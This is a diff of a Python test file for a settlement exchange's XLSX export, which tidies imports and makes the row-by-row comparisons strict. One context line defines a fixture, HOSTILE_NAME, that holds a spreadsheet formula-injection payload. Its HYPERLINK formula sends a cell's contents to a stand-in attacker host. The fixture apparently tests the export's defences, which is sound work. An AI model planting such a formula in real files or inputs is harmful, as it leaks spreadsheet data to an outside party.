@@ -11,8 +11,7 @@ import openpyxl
 from sqlalchemy import select
 
 from exchange.audit import AuditEvent
-from tests.api.test_settlements import at, month  # noqa: F401  (the three partners' October)
-from tests.helpers import assert_problem, csv_rows
+from tests.helpers import assert_problem, at, csv_rows
 
 XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"查看详情")'
@@ -47,8 +46,8 @@ def test_the_xlsx_holds_the_csvs_table_with_yuan_amounts_and_real_dates(month, a
         assert len(rows) == len(lines)
         header = [c.value.split()[-1] for c in sheet[1]]
         assert header == list(lines[0])
-        for line, row in zip(lines, rows):
-            cells = dict(zip(header, row))
+        for line, row in zip(lines, rows, strict=True):
+            cells = dict(zip(header, row, strict=True))
             assert cells["row"].value == line["row"] and cells["type"].value == line["type"]
             # Yuan in the workbook, fen in the CSV: the same amount.
             assert Decimal(str(cells["amount"].value)) * 100 == int(line["amount"])
